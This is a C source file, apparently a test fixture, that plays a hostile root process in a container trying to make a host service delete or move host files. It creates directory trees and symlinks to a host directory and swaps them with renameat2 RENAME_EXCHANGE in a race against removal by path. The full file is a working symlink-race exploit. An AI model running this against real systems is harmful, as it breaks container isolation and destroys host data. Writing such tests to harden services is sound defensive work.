/*
 * Plays a hostile program in a container, as root there, that wants the service to remove or move files of the host:
 *
 *   link-swapper VICTIM NAME
 *
 * In place of the file NAME, which is about to be restored for its user, it makes a directory of directories, and
 * elsewhere as many links to VICTIM, a directory of the host. It keeps all of them open and signals this with a file
 * `ready`. Whenever something disappears from one of the directories, it replaces that directory with a link. A program
 * that removes the rest by path then removes it from VICTIM. When nothing is left of the tree, or after 60 seconds, it
 * reports that, and waits until it is killed.
 */

#define _GNU_SOURCE
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define FILES "/fractal/userConfigs"
#define PAIRS 40
#define ENTRIES 200
#define SECONDS 60

typedef struct {
  int directory;
  struct timespec changed;
  char name[16], link[16];
} pair;

static int must(int result, const char *what) {
  if (result >= 0) return result;
  perror(what);
  exit(1);
}

static int make_directory(int in, const char *name) {
  must(mkdirat(in, name, 0777), name);
  return must(openat(in, name, O_RDONLY | O_DIRECTORY), name);
}

static void make_file(int in, const char *name) {
  close(must(openat(in, name, O_WRONLY | O_CREAT, 0666), name));
}

static struct timespec time_of(const pair *pair) {
  struct stat found;
  must(fstat(pair->directory, &found), pair->name);
  return found.st_mtim;
}

/* The files have the names of those in the host's directory, so each removal here could be one there. */
static pair make_pair(int in, int links, int number, const char *victim) {
  pair pair;
  char name[16];
  snprintf(pair.name, sizeof pair.name, "directory%d", number);
  snprintf(pair.link, sizeof pair.link, "link%d", number);
  pair.directory = make_directory(in, pair.name);
  for (int i = 0; i < ENTRIES; i++) {
    snprintf(name, sizeof name, "file%d", i);
    make_file(pair.directory, name);
  }
  must(symlinkat(victim, links, pair.link), pair.link);
  pair.changed = time_of(&pair);
  return pair;
}

static bool is_there(int in, const char *name) { return faccessat(in, name, F_OK, AT_SYMLINK_NOFOLLOW) == 0; }

/* Whether the two were exchanged. */
static bool look_at(int in, int links, pair *pair) {
  struct timespec changed = time_of(pair);
  if (changed.tv_sec == pair->changed.tv_sec && changed.tv_nsec == pair->changed.tv_nsec) return false;
  pair->changed = changed;
  return renameat2(in, pair->name, links, pair->link, RENAME_EXCHANGE) == 0;
}

int main(int argc, char **argv) {
  if (argc != 3) return 2;
  pair pairs[PAIRS];
  int files = must(open(FILES, O_RDONLY | O_DIRECTORY), FILES);
  int tree = make_directory(files, argv[2]), links = make_directory(files, "links");
  for (int i = 0; i < PAIRS; i++) pairs[i] = make_pair(tree, links, i, argv[1]);
  make_file(files, "ready");
  bool has_exchanged = false, is_left = true;
  for (time_t end = time(NULL) + SECONDS; is_left && time(NULL) < end;) {
    is_left = false;
    for (int i = 0; i < PAIRS; i++) {
      has_exchanged |= look_at(tree, links, &pairs[i]);
      is_left |= is_there(tree, pairs[i].name);
    }
  }
  printf("exchanged: %s, the tree is %s\n", has_exchanged ? "yes" : "no", is_left ? "there" : "gone");
  fflush(stdout);
  pause();
}
